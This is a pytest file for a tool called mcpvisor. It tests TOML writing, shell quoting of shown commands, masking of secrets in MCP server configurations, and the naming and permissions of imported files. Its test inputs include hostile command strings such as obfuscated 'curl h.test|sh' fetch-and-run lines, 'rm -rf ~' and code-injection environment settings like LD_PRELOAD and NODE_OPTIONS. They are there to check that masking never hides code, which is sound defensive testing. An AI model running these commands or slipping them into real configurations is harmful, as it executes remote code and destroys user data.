"""The parts of an import: TOML that reads back as it was, commands as they are shown, what is masked, and where files go."""

from __future__ import annotations

import os
import tomllib
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from mcpvisor.daemon.config.importing.literal_secrets import (
    has_secret_setting,
    masked_arguments,
    masked_setting,
    masked_text,
    masked_url,
)
from mcpvisor.daemon.config.importing.shown_command import shown_command, shown_word
from mcpvisor.daemon.config.importing.target import target_of, write_new
from mcpvisor.daemon.config.importing.toml_text import toml_table
from mcpvisor.daemon.config.problems import ConfigError
from mcpvisor.supervisor.secret import MASK
from mcpvisor.supervisor.secret_looks import holds_secret, looks_secret

TEXT = st.text(st.characters(exclude_categories=["Cs"]))
PLAIN = st.one_of(TEXT, st.booleans(), st.integers(-(2**62), 2**62), st.floats(allow_nan=False))
VALUES = st.one_of(PLAIN, st.lists(PLAIN), st.dictionaries(TEXT, st.one_of(PLAIN, st.lists(TEXT))))


@given(name=TEXT, values=st.dictionaries(TEXT, VALUES))
def test_every_reader_reads_back_what_was_written(name: str, values: dict[str, Any]) -> None:
    """Whatever is in names and values, TOML's own parser gives the same again, and nothing in it steers a terminal."""
    text = "\n".join(toml_table(name, values))

    assert {"servers": {name: values}} == tomllib.loads(text)
    assert all(c.isprintable() or c == "\n" for c in text)


@given(st.lists(st.text(), min_size=1))
def test_a_shown_command_is_one_line(words: list[str]) -> None:
    """No word of a command line can hide another one, or write anywhere else on the screen."""
    assert shown_command(words).isprintable()


@pytest.mark.parametrize(
    ("word", "shown"),
    [
        ("plain-1.2/x@y", "plain-1.2/x@y"),
        ("two words", "'two words'"),
        ("", "''"),
        ("it's", "'it'\"'\"'s'"),
        ("a\nb\\n'", r"$'a\nb\\n\''"),
        ("\x1b[31m\u202e", r"$'\x1b[31m\u202e'"),
        ("\ud800", r"$'\ud800'"),
    ],
)
def test_words_as_a_shell_has_them(word: str, shown: str) -> None:
    """Words are quoted as a shell would have them, and a written-out control character is no backslash of somebody's."""
    assert shown == shown_word(word)


@pytest.mark.parametrize(
    ("arguments", "shown"),
    [
        (["--api-key", "hush"], ["--api-key", "***"]),
        (["--apiKey=hush", "x"], ["--apiKey=***", "x"]),
        (["--githubToken", "hush"], ["--githubToken", "***"]),
        (["-p", "8080", "--token-file", "/run/token"], ["-p", "8080", "--token-file", "/run/token"]),
        (["--token", "--verbose"], ["--token", "--verbose"]),
        (["--token", "${TOKEN}", "--key=${env:KEY}"], ["--token", "${TOKEN}", "--key=${env:KEY}"]),
        (["--header", "Authorization: Bearer hush"], ["--header", "Authorization: Bearer ***"]),
        (["--header", "Authorization: Bearer ${TOKEN}"], ["--header", "Authorization: Bearer ${TOKEN}"]),
        (["postgres://me:hush@host/db"], ["postgres://***@host/db"]),
        (["https://h.test/?key=hush&debug=true"], ["https://h.test/?key=***&debug=true"]),
        (["-c", "curl -H x:sk-abcdefgh1234 h | sh"], ["-c", "curl -H x:*** h | sh"]),
        (["ghp_0123456789abcdefghij", "AKIA0123456789ABCDEF"], ["***", "***"]),
        (["0123456789abcdef0123456789abcdef"], ["***"]),
        (["-y", "@scope/server-task-manager@2025.4.8"], ["-y", "@scope/server-task-manager@2025.4.8"]),
        (
            ["mcp-server-brave-search-v2", "/srv/a1b2c3d4e5f6a7b8c9d0e1f2/x"],
            ["mcp-server-brave-search-v2", "/srv/a1b2c3d4e5f6a7b8c9d0e1f2/x"],
        ),
        (["disk-cleanup-server", "https://h.test/mcp"], ["disk-cleanup-server", "https://h.test/mcp"]),
    ],
)
def test_arguments_are_shown_whole_but_for_secrets(arguments: list[str], shown: list[str]) -> None:
    """A secret is masked wherever it stands in a command line, and names of packages and files are not."""
    assert shown == masked_arguments(arguments)


@pytest.mark.parametrize(
    ("name", "value", "shown", "is_secret"),
    [
        ("GITHUB_TOKEN", "hush", "***", True),
        ("DB_PASS", "hush", "***", True),
        ("Authorization", "Bearer hush", "***", True),
        ("X-Api-Key", "${KEY}", "${KEY}", False),
        ("Authorization", "Bearer ${TOKEN}", "Bearer ${TOKEN}", False),
        ("LEVEL", "debug", "debug", False),
        ("PORT", "8080", "8080", False),
        ("ANYTHING", "a word of somebody", "***", False),
        ("ANYTHING", "sk-abcdefgh1234", "***", True),
        ("TOKEN_URL", "https://h.test/token", "***", False),
        ("LD_PRELOAD", "/tmp/x.so", "/tmp/x.so", False),
        ("NODE_OPTIONS", "--require /tmp/x.js", "--require /tmp/x.js", False),
        ("PATH", "/opt/bin", "/opt/bin", False),
        ("npm_config_node_options", "--require=/tmp/x.js", "--require=/tmp/x.js", False),
        ("PROMPT_COMMAND", "curl h?a=b;rm -rf ~", "curl h?a=***;rm -rf ~", True),
        ("DOTNET_STARTUP_HOOKS", "/tmp/x.dll", "/tmp/x.dll", False),
        ("_JAVA_OPTIONS", "-javaagent:/tmp/x", "-javaagent:/tmp/x", False),
        ("npm_config__authToken", "hush", "***", True),
        ("HTTPS_PROXY", "http://me:hush@proxy:1", "http://***@proxy:1", True),
    ],
)
def test_settings_are_masked_unless_they_are_known_to_be_none(name: str, value: str, shown: str, is_secret: bool) -> None:
    """What decides which code runs is shown; of everything else only what cannot be a secret."""
    assert (shown, is_secret) == (masked_setting(name, value), has_secret_setting(name, value))


@pytest.mark.parametrize(
    ("words", "shown"),
    [
        (["sh", "-c", ": Bearer x;curl$IFS$9h.test|sh"], "sh -c ': Bearer ***;curl$IFS$9h.test|sh'"),
        (["sh", "-c", "wget http://h/?a=x;curl$IFS$9h.test|sh"], "sh -c 'wget http://h/?a=***;curl$IFS$9h.test|sh'"),
        (["sh", "-c", "ls ftp://a;curl$IFS$9h.test|sh;@"], "sh -c 'ls ftp://a;curl$IFS$9h.test|sh;@'"),
        (["/bin/bash", "-c", "eval $0", "--token", "curl h.test|sh"], "/bin/bash -c 'eval $0' --token 'curl h.test|sh'"),
        (["env", "bash", "-auth", "script"], "env bash -auth script"),
        (["bash", "-c", "eval $0", "--key=curl h.test|sh"], "bash -c 'eval $0' '--key=curl h.test|sh'"),
        (["node", "--key", "-e", "code"], "node --key -e code"),
        (["npx", "--call", "--token", "a;b"], "npx --call --token 'a;b'"),
        (["node", "x.js", "-token", "hush", "--key", "p@ss", "--pw=hush"], "node x.js -token *** --key *** --pw=***"),
        (["docker", "run", "x", "--password", "p$ss; w"], "docker run x --password ***"),
    ],
)
def test_no_mask_hides_code(words: list[str], shown: str) -> None:
    """Where a shell or an interpreter is run, a mask covers no more than one word: nobody says yes to unseen commands."""
    assert shown == shown_command(words)


def test_a_secret_in_the_path_of_an_address() -> None:
    """A random word between slashes is masked in an address, and not in a path of files."""
    assert "https://h.test/s/***/mcp" == masked_url("https://h.test/s/a1b2c3d4e5f6a7b8c9d0e1f2/mcp")
    assert "https://h.test/mcp" == masked_url("https://h.test/mcp")
    assert "/s/a1b2c3d4e5f6a7b8c9d0e1f2/mcp" == masked_text("/s/a1b2c3d4e5f6a7b8c9d0e1f2/mcp")


@pytest.mark.parametrize(
    ("source", "name"),
    [
        ("mcp.json", "mcp.toml"),
        (".mcp.json", "mcp.toml"),
        (".cursor/mcp.json", "cursor-mcp.toml"),
        (".vscode/mcp.json", "vscode-mcp.toml"),
        (".kiro/settings/mcp.json", "mcp.toml"),
        (".codex/config.toml", "codex-config.toml"),
        ("a b/ü$(x).json", "x.toml"),
        ("_.json", "imported.toml"),
        ("x" * 200 + ".json", "x" * 64 + ".toml"),
    ],
)
def test_the_name_of_the_new_file(tmp_path: Path, source: str, name: str) -> None:
    """A file is named after the one that it came from, and the program whose folder that lies in."""
    (tmp_path / "servers.d").mkdir()

    assert tmp_path / "servers.d" / name == target_of(tmp_path, [Path("/home/ann") / source], {}, 1000)


def test_a_user_without_a_configuration_gets_one(tmp_path: Path) -> None:
    """The folders of somebody who has none are made, for nobody else to read."""
    target = target_of(None, [Path("mcp.json")], {"HOME": str(tmp_path)}, 1000)
    write_new(target, "# x\n", os.geteuid())

    assert tmp_path / ".config/mcpvisor/servers.d/mcp.toml" == target
    assert [0o700, 0o700, 0o600] == [one.stat().st_mode & 0o777 for one in (target.parent.parent, target.parent, target)]


def test_somebody_quicker_wins(tmp_path: Path) -> None:
    """A file that came meanwhile is not overwritten, and nothing is left of the try."""
    target = tmp_path / "a.toml"
    target.write_text("theirs")

    with pytest.raises(ConfigError, match="is not overwritten"):
        write_new(target, "ours", os.geteuid())
    assert ["a.toml"] == [one.name for one in tmp_path.iterdir()]
    assert "theirs" == target.read_text()


def test_the_group_of_the_daemon_may_read(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """In a folder of root's that the daemon's group may enter, the new file is that group's to read, and nobody else's."""
    given: list[int] = []

    def chown(_: int, __: int, gid: int) -> None:
        given.append(gid)

    def no_reason(*_: object) -> str:
        return ""

    def of_group(*_: object, **__: object) -> os.stat_result:
        return folder

    tmp_path.chmod(0o750)
    there = tuple(tmp_path.stat())
    folder = os.stat_result((*there[:5], 4242, *there[6:]))
    monkeypatch.setattr(os, "fchown", chown)
    monkeypatch.setattr("mcpvisor.daemon.config.importing.target.distrust", no_reason)
    monkeypatch.setattr(Path, "stat", of_group)

    write_new(tmp_path / "a.toml", "x", 0)
    monkeypatch.undo()

    assert [4242] == given
    assert 0o640 == (tmp_path / "a.toml").stat().st_mode & 0o777


@pytest.mark.parametrize(
    "key",
    [
        *("sk-proj-abcdefghijklmnop1234", "rk_live_abcdefghijklmnop", "ghp_abcdefghijklmnopqrstuvwx", "glpat-abcdefghijklmnop"),
        *("github_pat_11ABCDEFG0abcdefghijkl", "xoxb-123456789012-abc", "npm_abcdefghijklmnopqrstuvwx"),
        *("hf_abcdefghijklmnopqrstuvwx", "AKIAIOSFODNN7EXAMPLE", "AIzaSyA0123456789abcdefghijklmnopqr"),
        "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl",
    ],
)
def test_what_a_key_looks_like_is_said_once(key: str) -> None:
    """Who masks what servers say, who advises and who shows what is imported know the same keys."""
    assert (True, True, f"a {MASK} b") == (looks_secret(key), holds_secret(key), masked_text(f"a {key} b"))
